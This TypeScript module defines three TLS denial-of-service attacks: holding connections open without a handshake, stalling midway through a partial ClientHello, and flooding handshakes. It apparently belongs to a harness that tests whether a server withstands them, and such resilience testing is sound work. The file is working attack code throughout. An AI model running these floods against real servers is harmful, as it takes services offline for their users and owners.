import { connect, type Socket } from 'node:net';
import { isOver, rest, together, type Attack, type AttackContext } from '../attack.js';
import { openSocket } from '../peer.js';

// A record of type handshake that promises a ClientHello of 508 bytes, and the first of them.
const halfClientHello = Buffer.concat([Buffer.from('1603010200010001fc0303', 'hex'), Buffer.alloc(100, 7)]);

async function holdMany(context: AttackContext, said: Buffer): Promise<void> {
  const held = new Set<Socket>();
  while (!isOver(context)) {
    for (let at = 0; at < 64 && held.size < context.maxConnections + 100; at++) {
      const socket = connect({ host: context.target.host, port: context.target.port });
      socket.on('error', () => undefined);
      socket.resume();
      socket.once('close', () => held.delete(socket));
      if (said.length > 0) socket.write(said);
      held.add(socket);
      context.count('connections');
    }
    await rest(context, 10);
  }
  for (const socket of held) socket.destroy();
}

/** Connects and never begins the handshake. */
export const tlsSilent: Attack = {
  name: 'tls-silent',
  what: 'all connections there is room for, before any handshake',
  by: 'stranger',
  needsTls: true,
  enough: { what: 'connections', count: 'room' },
  run: (context) => holdMany(context, Buffer.alloc(0)),
};

/** Begins the handshake and stops. */
export const tlsHalfHello: Attack = {
  name: 'tls-half-hello',
  what: 'all connections there is room for, in the middle of a ClientHello',
  by: 'stranger',
  needsTls: true,
  enough: { what: 'connections', count: 'room' },
  run: (context) => holdMany(context, halfClientHello),
};

/** Costs the agent the private key's work, again and again. */
export const tlsHandshakeFlood: Attack = {
  name: 'tls-handshake-flood',
  what: 'handshakes as fast as they go',
  by: 'stranger',
  needsTls: true,
  enough: { what: 'handshakes', count: 200 },
  run: (context) =>
    together(64, async () => {
      while (!isOver(context)) {
        const socket = await openSocket(context.target);
        context.count(socket === undefined ? 'refused' : 'handshakes');
        if (socket === undefined) await rest(context, 5);
        socket?.destroy();
      }
    }),
};
